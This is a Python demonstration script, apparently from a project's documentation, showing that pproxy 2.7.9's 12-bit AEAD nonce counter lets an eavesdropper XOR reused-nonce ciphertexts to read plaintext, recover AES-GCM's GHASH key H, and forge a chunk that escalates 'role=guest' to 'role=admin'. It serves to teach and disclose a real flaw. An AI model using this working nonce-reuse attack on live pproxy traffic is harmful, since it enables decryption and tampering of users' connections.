"""Why nonces must never repeat: what pproxy's 12-bit nonce counter gives away.

    python docs/demos/nonce_reuse.py

pproxy 2.7.9 counts AEAD nonces modulo 2**12 where SIP004 counts modulo 2**96 (the README's
finding 5), so chunk 2048 of a TCP stream is sealed with the nonces of chunk 0, under the same
subkey. This script seals a stream the way pproxy does, with refcrypto's AES-128-GCM, and
then, as an eavesdropper without the key:

1. XORs two ciphertexts sealed under one nonce: the keystream cancels and the XOR of the two
   plaintexts is left; knowing one plaintext gives the other;
2. recovers GHASH's key H from the two length chunks sealed under nonce 0 (the "forbidden
   attack", Joux 2006, comments to NIST on GCM): for one-block messages of the same length,
   T1 ⊕ T2 = (C1 ⊕ C2)·H² in GF(2^128), so H = sqrt((T1 ⊕ T2) / (C1 ⊕ C2));
3. forges a payload chunk with a plaintext of its choice and a tag the receiver accepts.

The field arithmetic is GCM's (SP 800-38D, 6.3): 128-bit blocks as polynomials over GF(2),
bit 0 the leftmost, reduced by x^128 + x^7 + x^2 + x + 1. Pure Python, written to be read.
"""

from __future__ import annotations

import sys
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

import refcrypto  # noqa: E402
from refcrypto.kdf import session_subkey  # noqa: E402
from refcrypto.primitives.base import AEAD  # noqa: E402

#: x^128 + x^7 + x^2 + x + 1, in GCM's reflected bit order (SP 800-38D 6.3: R = 11100001 || 0^120).
R = 0xE1 << 120
#: Nonces pproxy can count before wrapping: 2**12 (it takes NONCE_LENGTH = 12 as bits).
PPROXY_NONCES = 1 << 12


def gf_mul(x: int, y: int) -> int:
    """X · Y in GF(2^128), SP 800-38D algorithm 1 (blocks as big-endian integers)."""
    z, v = 0, y
    for i in range(127, -1, -1):
        if x >> i & 1:
            z ^= v
        v = (v >> 1) ^ R if v & 1 else v >> 1
    return z


def gf_pow(x: int, n: int) -> int:
    result = 1 << 127  # the field's 1 is the block 0x80 00 ... 00
    while n:
        if n & 1:
            result = gf_mul(result, x)
        x = gf_mul(x, x)
        n >>= 1
    return result


def gf_inverse(x: int) -> int:
    """x^(2^128 - 2) = 1/x: the multiplicative group has 2^128 - 1 elements."""
    return gf_pow(x, (1 << 128) - 2)


def gf_sqrt(x: int) -> int:
    """x^(2^127): squaring is a bijection in characteristic 2, so every x has one root."""
    return gf_pow(x, 1 << 127)


def block(data: bytes) -> int:
    """Up to 16 bytes, zero-padded on the right, as a field element."""
    return int.from_bytes(data.ljust(16, b"\0"), "big")


def ghash(h: int, aad: bytes, ciphertext: bytes) -> int:
    """GHASH_H(A, C) (SP 800-38D 6.4), both padded to whole blocks, then the bit lengths."""
    y = 0
    for data in (aad, ciphertext):
        for i in range(0, len(data), 16):
            y = gf_mul(y ^ block(data[i : i + 16]), h)
    lengths = (8 * len(aad)) << 64 | 8 * len(ciphertext)
    return gf_mul(y ^ lengths, h)


def pproxy_nonce(n: int) -> bytes:
    """pproxy's nonce for seal number ``n``: the counter modulo 2**12, 12 bytes little-endian."""
    return (n % PPROXY_NONCES).to_bytes(12, "little")


def seal_like_pproxy(aead: AEAD, chunks: list[bytes]) -> list[bytes]:
    """Each chunk as [sealed length, sealed payload], with pproxy's wrapping counter."""
    out = []
    for k, payload in enumerate(chunks):
        out.append(aead.seal(pproxy_nonce(2 * k), len(payload).to_bytes(2, "big")))
        out.append(aead.seal(pproxy_nonce(2 * k + 1), payload))
    return out


def xor(a: bytes, b: bytes) -> bytes:
    return bytes(x ^ y for x, y in zip(a, b, strict=False))


def recover_h(sealed1: bytes, sealed2: bytes) -> int:
    """H from two one-block messages of one length, no AAD, sealed under one (key, nonce)."""
    (c1, t1), (c2, t2) = ((s[:-16], block(s[-16:])) for s in (sealed1, sealed2))
    assert len(c1) == len(c2) <= 16 and c1 != c2
    return gf_sqrt(gf_mul(t1 ^ t2, gf_inverse(block(c1) ^ block(c2))))


def forge(h: int, known_sealed: bytes, known_plain: bytes, wanted: bytes) -> bytes:
    """A sealed message with plaintext ``wanted`` under the nonce of ``known_sealed``, whose
    plaintext ``known_plain`` the attacker knows (``wanted`` no longer than it)."""
    ciphertext, tag = known_sealed[:-16], known_sealed[-16:]
    mask = block(tag) ^ ghash(h, b"", ciphertext)  # E_K(J0) of that nonce
    forged = xor(xor(ciphertext, known_plain), wanted)  # the CTR keystream, reused
    return forged + (ghash(h, b"", forged) ^ mask).to_bytes(16, "big")


def main() -> int:
    name = "aes-128-gcm"
    salt = bytes(range(16))
    subkey = session_subkey(refcrypto.master_key("correct horse", name), salt)
    aead = refcrypto.method(name).new_aead(subkey)
    first = b"user=alice;role=guest\n"
    secret = b"card=4929 1234 5678 9012;exp=09/29\n"
    chunks = [first] + [b"keep-alive\n"] * 2047 + [secret]
    sealed = seal_like_pproxy(aead, chunks)
    print(f"{name}: a stream of {len(chunks)} chunks sealed with pproxy's 12-bit counter")
    print(f"  chunk 0    length nonce {pproxy_nonce(0).hex()}, payload nonce "
          f"{pproxy_nonce(1).hex()}")
    print(f"  chunk 2048 length nonce {pproxy_nonce(4096).hex()}, payload nonce "
          f"{pproxy_nonce(4097).hex()}")

    print("\n1. Two payloads under one nonce: XOR the ciphertexts, the keystream cancels")
    c0, c2048 = sealed[1][:-16], sealed[4097][:-16]
    leaked = xor(c0, c2048)
    print(f"  C0 ^ C2048           = {leaked.hex()}")
    print(f"  P0 ^ P2048           = {xor(first, secret).hex()}")
    print(f"  knowing P0, P2048 is = {xor(leaked, first)!r}")

    print("\n2. Two length chunks under nonce 0: H from one equation in GF(2^128)")
    h = recover_h(sealed[0], sealed[4096])
    from Crypto.Cipher import AES

    true_h = int.from_bytes(AES.new(subkey, AES.MODE_ECB).encrypt(bytes(16)), "big")
    print(f"  lengths: chunk 0 {len(first)}, chunk 2048 {len(secret)}")
    print(f"  H recovered            = {h:032x}")
    print(f"  H = AES(subkey, 0^128) = {true_h:032x} (uses the key: only to check)")

    print("\n3. With H, a forged payload chunk under nonce 1, accepted by the receiver")
    wanted = b"user=alice;role=admin\n"
    forged = forge(h, sealed[1], first, wanted)
    print(f"  forged chunk = {forged.hex()}")
    opened = aead.open(pproxy_nonce(1), forged)
    print(f"  the receiver opens it with nonce 1: {opened!r}")
    return 0 if opened == wanted and h == true_h else 1


if __name__ == "__main__":
    raise SystemExit(main())
